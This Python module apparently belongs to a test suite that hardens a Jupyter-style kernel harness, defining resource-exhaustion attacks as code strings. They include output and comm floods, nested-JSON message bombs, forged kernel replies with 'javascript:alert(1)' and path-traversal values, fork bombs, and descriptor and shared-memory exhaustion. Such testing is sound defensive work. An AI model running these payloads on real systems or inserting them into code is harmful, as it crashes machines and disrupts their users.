"""Floods: of messages, of outputs, and of the small things that a machine has a fixed number of."""

from __future__ import annotations

from .attacks import Attack
from .messages import PRELUDE

OUTPUTS = {
    "display_data_without_end": """
def double(x):
    while True:
        display({"image/png": "iVBORw0KGgo" * 500, "text/html": "<b>" * 500}, raw=True)
""",
    "updates_of_one_display_without_end": """
def double(x):
    shown = display({"text/plain": "x"}, raw=True, display_id="one")
    while True:
        shown.update({"text/plain": "x" * 1000}, raw=True)
""",
    "outputs_nested_without_end": """
pack = session.pack
session.pack = lambda content: b"[" * 150_000 + b"]" * 150_000
for kind in ("display_data", "stream", "status", "execute_result", "error"):
    session.send(iopub, kind, {}, parent=parent())
session.pack = lambda content: b'{"a":' * 150_000 + b"1" + b"}" * 150_000
for kind in ("display_data", "status", "comm_msg"):
    session.send(iopub, kind, {}, parent=parent())
session.pack = pack
""",
    "comms_without_end": """
def double(x):
    number = 0
    while True:
        number += 1
        send("comm_open", {"comm_id": str(number), "target_name": "x", "data": {}})
        send("comm_msg", {"comm_id": str(number), "data": {"x": "x" * 1000}})
""",
    "clears_its_outputs_without_end": """
from IPython.display import clear_output
def double(x):
    while True:
        print("x" * 100)
        clear_output(wait=True)
""",
    "another_kernel_by_its_info": """
info = {"status": "ok", "protocol_version": "9" * 5000, "implementation": "<script>", "banner": [],
        "language_info": {"name": {"deep": [[[]]]}, "version": None, "file_extension": "../../x"},
        "help_links": [{"text": "x", "url": "javascript:alert(1)"}] * 1000}
def again():
    for kind in ("kernel_info_reply", "execute_reply", "shutdown_reply", "interrupt_reply"):
        send(kind, info)
        session.send(kernel.shell_stream if hasattr(kernel, "shell_stream") else iopub, kind, info,
                     parent=parent())
at_checks(again)
""",
}

NUMBERS = {
    "zombies_in_a_crowd": """
import os
def double(x):
    try:
        while True:
            if os.fork() == 0:
                os._exit(0)
    except OSError:
        return 3 * x
""",
    "a_tree_of_forks": """
import os, time
def double(x):
    for _ in range(7):
        try:
            os.fork()
        except OSError:
            break
    time.sleep(60)
""",
    "pipes_and_sockets_filled": """
import os, socket
held = []
def double(x):
    try:
        while True:
            reader, writer = os.pipe()
            pair = socket.socketpair()
            held.append((reader, writer, pair))
            for number in (writer, pair[0].fileno()):
                os.set_blocking(number, False)
                try:
                    while True:
                        os.write(number, bytes(65536))
                except BlockingIOError:
                    pass
    except OSError:
        return 3 * x
""",
    "sockets_in_flight": """
import array, os, socket
def double(x):
    outer = socket.socketpair()
    try:
        while True:
            pair = socket.socketpair()
            pair[0].setblocking(False)
            try:
                while True:
                    pair[0].send(bytes(65536))
            except BlockingIOError:
                pass
            sent = array.array("i", [pair[0].fileno(), pair[1].fileno()])
            outer[0].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, sent)])
            for one in pair:
                one.close()
    except OSError:
        return 3 * x
""",
    "watches_and_timers_used_up": """
import ctypes, os
libc, held = ctypes.CDLL(None), []
for make in (lambda: libc.inotify_init1(0), lambda: libc.epoll_create1(0),
             lambda: libc.eventfd(0, 0), lambda: libc.timerfd_create(1, 0)):
    while (number := make()) >= 0:
        held.append(number)
    for number in held[20:]:
        os.close(number)
    del held[20:]
for number in held:
    os.close(number)
""",
    "mapped_files_without_end": """
import mmap, os
def double(x):
    held = []
    while True:
        number = len(held)
        with open(f"/dev/shm/map{number}", "wb+") as file:
            file.truncate(2**26)
            held.append(mmap.mmap(file.fileno(), 2**26))
        held[-1][:] = b"x" * 2**26
""",
    "memory_shared_without_a_file": """
import mmap, os, time
def double(x):
    held = []
    while True:
        held.append(mmap.mmap(-1, 2**26))
        held[-1][:] = b"x" * 2**26
""",
}
SLOW = {
    "display_data_without_end", "updates_of_one_display_without_end", "comms_without_end",
    "clears_its_outputs_without_end", "a_tree_of_forks", "memory_shared_without_a_file",
    "pipes_and_sockets_filled", "sockets_in_flight", "mapped_files_without_end",
}  # fmt: skip
UNARMED = {"outputs_nested_without_end"}  # such a message is the last that is read of its cell
ATTACKS = [
    Attack(name, PRELUDE + code, armed=name not in UNARMED, slow=name in SLOW)
    for name, code in {**OUTPUTS, **NUMBERS}.items()
]
